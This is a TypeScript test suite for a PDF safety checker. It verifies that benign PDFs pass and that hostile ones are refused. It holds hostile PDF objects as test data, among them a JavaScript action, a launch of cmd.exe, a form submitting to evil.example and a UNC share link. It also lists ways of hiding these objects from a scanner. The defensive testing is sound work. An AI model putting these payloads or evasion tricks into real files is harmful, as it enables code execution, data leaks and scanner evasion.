import assert from 'node:assert/strict';
import { createCipheriv } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { judgePdf } from '../functions/_shared/files/judge-pdf.ts';
import { makePdf, objectStream, stream } from './support/make-pdf.ts';

const samples = new URL('samples/pdf/', import.meta.url);

describe('sound PDFs are taken', () => {
  for (const file of readdirSync(samples)) {
    test(`as ${file.replace('.pdf', '')} writes them`, () =>
      assert.equal(judgePdf(readFileSync(new URL(file, samples))), null));
  }

  const sound: readonly (readonly [string, Buffer])[] = [
    ['one that opens at a page', makePdf('/OpenAction [3 0 R /Fit]')],
    [
      'one that opens by an action that goes to a page',
      makePdf('/OpenAction 4 0 R', ['<< /S /GoTo /D [3 0 R /Fit] >>']),
    ],
    [
      'links to the web',
      makePdf('', ['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://a.example) >> >>']),
    ],
    ['a form without programs', makePdf('/AcroForm << /Fields [] >>')],
    [
      'its objects packed',
      makePdf('', [
        objectStream([
          [7, '<< /Producer (x) >>'],
          [8, '[1 2 3]'],
        ]),
      ]),
    ],
  ];
  for (const [what, bytes] of sound) test(what, () => assert.equal(judgePdf(bytes), null));

  test('500 with random streams, 100 MB together', () => {
    // A cipher with a fixed key: random to a reader, the same in each run.
    const random = createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16));
    const refused = Array.from({ length: 500 }, () =>
      judgePdf(makePdf('', [stream(random.update(Buffer.alloc(200_000)))])),
    ).filter((fault) => fault !== null);
    assert.deepEqual(refused, []);
  });
});

describe('hostile PDFs are refused', () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  /** Every harm, as an object that the catalogue leads to. */
  const harms: readonly (readonly [string, string])[] = [
    ['a script', script],
    ['a script in a stream', '<< /S /JavaScript /JS 9 0 R >>'],
    ['a program to start', '<< /S /Launch /F (cmd.exe) >>'],
    ['a form that sends itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
    ['data fetched in', '<< /S /ImportData /F (x.fdf) >>'],
    ['another file opened', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>'],
    ['an embedded file opened', '<< /S /GoToE /T << /N (x) >> >>'],
    ['an attachment', '<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>'],
    ['an attached stream', '<< /Type /EmbeddedFile /Length 0 >>'],
    ['media', '<< /Subtype /RichMedia /RichMediaContent << >> >>'],
    ['a form of XML', '<< /Fields [] /XFA 9 0 R >>'],
    ['an action at an event', '<< /AA << /O 9 0 R >> >>'],
    ['scripts by name', '<< /JavaScript << /Names [(x) 9 0 R] >> >>'],
    ['a harm in a list', `[ 1 [ ${script} ] ]`],
  ];
  const escaped = (object: string) =>
    object.replaceAll(
      /\/(\w)(\w+)/g,
      (_, first: string, rest: string) =>
        `/${first}${[...rest].map((sign) => `#${sign.charCodeAt(0).toString(16).toUpperCase()}`).join('')}`,
    );
  const spaced = (object: string) => object.replaceAll(' ', ' % >> endobj\r\f\0');
  const tight = (object: string) => object.replaceAll(/ (?=[/<([])|(?<=[<[]) | (?=[>\]])/g, '');
  const replaced = (object: Buffer, from: string, to: string) =>
    Buffer.from(
      object.toString('latin1').replace(from, () => to),
      'latin1',
    );
  /** Every way to write it. */
  const hidings: readonly (readonly [string, (object: string) => Buffer])[] = [
    ['plain', (object) => makePdf('/A 4 0 R', [object])],
    ['inside the catalogue', (object) => makePdf(`/A ${object}`)],
    ['with escaped names', (object) => makePdf('/A 4 0 R', [escaped(object)])],
    ['between comments', (object) => makePdf('/A 4 0 R', [spaced(object)])],
    ['without spaces', (object) => makePdf('/A 4 0 R', [tight(object)])],
    [
      'behind a text with brackets',
      (object) => makePdf('/A 4 0 R', [`[ (\\)>>]( endobj)) <28> ${object} ]`]),
    ],
    ['in an object stream', (object) => makePdf('/A 7 0 R', [objectStream([[7, object]])])],
    [
      'in one that names no type',
      (object) => makePdf('/A 7 0 R', [objectStream([[7, object]], { type: '' })]),
    ],
    [
      'in one of a false length',
      (object) => makePdf('/A 7 0 R', [objectStream([[7, object]], { length: 3 })]),
    ],
    [
      'in one whose bytes begin behind a comment',
      (object) => makePdf('/A 7 0 R', [replaced(objectStream([[7, object]]), '>>\nstream', '>>%\nstream')]),
    ],
    ['in one with escaped names', (object) => makePdf('/A 7 0 R', [objectStream([[7, escaped(object)]])])],
    [
      'in an object stream that is not packed',
      (object) => makePdf('/A 7 0 R', [stream(`7 0 ${object}`, '/N 1 /First 4')]),
    ],
    [
      'inside the bytes of a picture',
      (object) => makePdf('/A 7 0 R', [stream(`xx\n7 0 obj ${object} endobj`, '/Subtype /Image')]),
    ],
    [
      'in a later version of the file',
      (object) => Buffer.concat([makePdf(''), Buffer.from(`7 0 obj${object}endobj`)]),
    ],
    ['in the trailer', (object) => makePdf('', [], `/A ${object}`)],
  ];
  /** Names so short that any picture or font may hold them: they count outside of streams alone. */
  const isShort = (what: string) => /^(an attachment|a form of XML|an action)$|event/.test(what);
  for (const [hiding, hide] of hidings) {
    test(hiding, () => {
      const taken = harms
        .filter(([what]) => !isShort(what) || !/not packed|inside the bytes/.test(hiding))
        .filter(([, object]) => judgePdf(hide(object)) !== 'active');
      assert.deepEqual(
        taken.map(([what]) => what),
        [],
      );
    });
  }

  const others: readonly (readonly [string, Buffer, string])[] = [
    ['asks for a password', makePdf('', [], '/Encrypt << /Filter /Standard >>'), 'protected'],
    [
      'packs its objects in a way of its own',
      makePdf('', [stream('x', '/N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]')]),
      'damaged',
    ],
    [
      'packs its objects badly',
      makePdf('', [stream('xxxx', '/N 1 /First 4 /Filter /FlateDecode')]),
      'damaged',
    ],
  ];
  for (const [what, bytes, fault] of others)
    test(`one that ${what}`, () => assert.equal(judgePdf(bytes), fault));

  test('none keeps the judge busy', () => {
    const started = process.cpuUsage();
    for (const piece of [
      'obj(',
      'obj[',
      '1 0 obj<</A(',
      'obj ',
      'trailer(',
      '1 0 obj<</First 1/Filter/Fl>>stream\n',
      '1 0 obj<</First 0/Length 0>>stream\n',
      '1 0 obj<<>>%',
      '9',
    ]) {
      judgePdf(Buffer.from(`%PDF-1.7\n${piece.repeat(Math.ceil(4_000_000 / piece.length))}`));
    }
    const bomb = objectStream([[7, ' '.repeat(100_000_000)]]);
    assert.equal(judgePdf(makePdf('', [bomb])), 'damaged');
    // Of the processor: others may use it meanwhile.
    assert.ok(process.cpuUsage(started).user < 5_000_000);
  });
});
